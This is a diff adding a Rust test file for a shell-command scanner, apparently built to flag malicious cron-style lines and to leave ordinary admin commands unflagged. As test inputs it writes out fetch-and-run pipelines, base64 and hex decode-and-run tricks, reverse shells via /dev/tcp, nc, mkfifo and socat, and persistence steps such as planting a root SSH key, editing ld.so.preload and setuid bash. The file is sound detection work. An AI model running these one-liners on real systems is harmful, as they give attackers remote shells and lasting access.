@@ -1,0 +1,155 @@
+use super::*;
+
+/// Signs of a command line, without what shows them.
+fn says(command: &str) -> Vec<String> {
+    of_command(command.as_bytes()).into_iter().map(|sign| sign.says).collect()
+}
+#[track_caller]
+fn check(command: &str, expected: &str) {
+    let all = says(command);
+    let first = all.first().map_or("", String::as_str);
+    assert_eq!(first, expected, "{command}");
+}
+
+#[test]
+fn code_that_is_fetched_and_run() {
+    for command in [
+        "curl -fsSL http://x/y | sh",
+        "wget -q -O- http://x/y | bash -s -- -a",
+        "wget -qO - x|sudo bash",
+        "sh -c \"$(curl -fsSL http://x)\"",
+        "bash <(curl -s http://x)",
+        ". <(wget -qO- x)",
+        "eval \"$(curl -s x)\"",
+        "eval `curl -s x`",
+        "/bin/sh -c 'curl x | sh'",
+        "/bin/bash -c \"/usr/bin/curl x|/bin/bash\" >/dev/null 2>&1",
+        "curl x | python3",
+        "curl x | python3 -",
+        "curl -s x | tee /tmp/l | perl",
+        "(curl -s x || wget -qO- x) | sh",
+        "curl x -o /tmp/a; chmod +x /tmp/a; /tmp/a",
+        "cd /tmp && wget http://x/a.sh && sh a.sh",
+        "curl -sO http://x/a.sh && bash ./a.sh",
+        "python3 -c \"$(curl -s x)\"",
+        "curl x >/tmp/a && . /tmp/a",
+        "c=curl; nice -n 19 timeout 60 curl x | nice sh",
+        "bash <<< \"$(curl -s x)\"",
+        "cat </dev/tcp/192.0.2.1/80 | sh",
+        "nc 192.0.2.1 80 | sh",
+        "sh -c 'sh -c \"wget x -O- | sh\"'",
+        "while true; do curl x | sh; sleep 5; done",
+        "dig +short txt x | sh",
+        "curl x | base64 -d | sh",
+    ] {
+        let first = says(command).into_iter().next().unwrap_or_default();
+        assert!(
+            ["fetches code and runs it", "decodes code and runs it"].contains(&first.as_str()),
+            "{command}: {first}"
+        );
+    }
+}
+#[test]
+fn code_that_is_decoded_and_run() {
+    for command in [
+        "echo dHJ1ZQ== | base64 -d | sh",
+        "echo dHJ1ZQ==|base64 --decode|/bin/bash",
+        "base64 -d <<<dHJ1ZQ== | sh",
+        "bash -c \"$(echo dHJ1ZQ== | base64 -d)\"",
+        "`echo dHJ1ZQ== | base64 -d`",
+        "$(printf dHJ1ZQ== | base64 -di)",
+        "echo 74727565 | xxd -r -p | sh",
+        "printf '\\x74\\x72\\x75\\x65' | sh",
+        "echo -e '\\164\\162\\165\\145' | sh",
+        "openssl enc -d -aes-256-cbc -in /x | sh",
+        "echo x | openssl base64 -d | bash",
+        "echo eurt | rev | sh",
+        "echo H4s | base64 -d | gunzip | sh",
+        "base64 -d /etc/x > /tmp/y; sh /tmp/y",
+        "{ echo L3Vz|base64 -d|bash;} 2>/dev/null #1b5b324a50524e47 >/dev/random",
+        "python3 -c 'import base64;print(base64.b64decode(\"x\"))' | sh",
+    ] {
+        check(command, "decodes code and runs it");
+    }
+    check("python3 -c 'import base64;exec(base64.b64decode(\"x\"))'", "holds code that decodes code and runs it");
+    check("perl -e 'eval pack(\"H*\",\"41\")'", "holds code that decodes code and runs it");
+    check("php -r 'eval(base64_decode(\"x\"));'", "holds code that decodes code and runs it");
+    check(
+        "python3 -c 'import urllib.request as u;exec(u.urlopen(\"x\").read())'",
+        "holds code that fetches code and runs it",
+    );
+}
+#[test]
+fn shells_for_others() {
+    let elsewhere = "opens a connection to elsewhere as a shell's input or output";
+    let given = "gives a shell to whoever is at the other end of a connection";
+    check("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", elsewhere);
+    check("bash -c 'exec 5<>/dev/tcp/192.0.2.1/443; cat <&5 | sh'", elsewhere);
+    check("nc -e /bin/sh 192.0.2.1 443", given);
+    check("ncat --sh-exec /bin/sh -l 443", given);
+    check("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 443 >/tmp/f", given);
+    check("socat TCP:192.0.2.1:443 EXEC:'/bin/bash -li',pty,stderr", given);
+    check(
+        "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
+        "holds code that connects to elsewhere and runs what it is told",
+    );
+    check("perl -MIO::Socket -e 'exec(\"/bin/sh\")'", "holds code that connects to elsewhere and runs what it is told");
+}
+#[test]
+fn doors_left_open() {
+    check("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "writes into /root/.ssh/authorized_keys");
+    check("echo /x.so > /etc/ld.so.preload", "writes into /etc/ld.so.preload");
+    check("chmod 4755 /bin/bash", "gives a program the rights of its owner (setuid)");
+    check("HISTFILE=/dev/null bash", "keeps commands out of the history");
+    check("x -o stratum+tcp://192.0.2.1:3333", "connects to a mining pool");
+}
+#[test]
+fn what_admins_write_is_quiet() {
+    for command in [
+        "rsync -a /srv/ backup:/srv/",
+        "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/x",
+        "/usr/local/bin/backup && curl -fsS https://hc-ping.com/x >/dev/null",
+        "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew",
+        "cd /srv/app && ./venv/bin/python manage.py clearsessions",
+        "php -f /var/www/nextcloud/cron.php",
+        ". /home/anna/.nvm/nvm.sh && node /home/anna/bot/index.js",
+        "mysqldump --all-databases | gzip -9 > /srv/backup/$(date +%F).sql.gz",
+        "curl -s http://localhost/status | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"ok\"])'",
+        "curl -s http://localhost/status | python3 -m json.tool",
+        "curl -s x | jq .a > /srv/x",
+        "wget -q https://x/GeoIP.tgz -O /tmp/g.tgz && tar xzf /tmp/g.tgz -C /srv/geo",
+        "curl -s https://x/blocklist | grep -v '^#' | xargs -n1 ipset add b",
+        "zcat /srv/dump.sql.gz | mysql shop",
+        "[ -x /usr/sbin/logrotate ] && /usr/sbin/logrotate /etc/logrotate.conf",
+        "bash -c '</dev/tcp/db/5432' || systemctl restart db",
+        "tar czf - /srv | openssl enc -e -aes-256-cbc -kfile /root/k > /mnt/b",
+        "eval \"$(ssh-agent)\"; ssh-add; git pull",
+        "python3 /srv/x.py --ip \"$(curl -s https://ifconfig.me)\"",
+        "sh -c \"echo $(curl -s ifconfig.me) >> /var/log/ip\"",
+        "nc -z db 5432 || mail -s down root",
+        "echo stats | nc localhost 11211",
+        "find /srv -name '*.tmp' -mtime +7 -exec rm {} ;",
+        "sleep $(( RANDOM % 60 )); /opt/agent/bin/agent --once",
+        "perl -ne 'print if /x/' /var/log/syslog | mail root",
+        "echo test | tr a-z A-Z > /srv/x",
+        "chmod 0755 /srv/x; chmod 644 /srv/y",
+        "flock -n /run/x.lock /usr/local/bin/sync",
+        "/usr/bin/certbot renew --deploy-hook 'systemctl reload nginx'",
+        "ssh host 'cat /srv/x' > /srv/y",
+        "wget -q --spider https://x/wp-cron.php?doing_wp_cron",
+    ] {
+        assert_eq!(says(command), Vec::<String>::new(), "{command}");
+    }
+}
+#[test]
+fn mutated_commands_never_panic() {
+    let seeds: [&[u8]; 3] = [
+        b"curl -fsSL http://x/y -o /tmp/a && bash /tmp/a; echo dHJ1ZQ== | base64 -d | sh",
+        b"python3 -c 'import socket,os;exec(b64decode(\"x\"))'; bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
+        b"eval \"$(wget -qO- x)\"; socat TCP:a:1 EXEC:/bin/sh; nc -e /bin/sh a 1",
+    ];
+    keeneye_world::mutate::check(&seeds, |line| {
+        drop(of_command(line));
+        true
+    });
+}
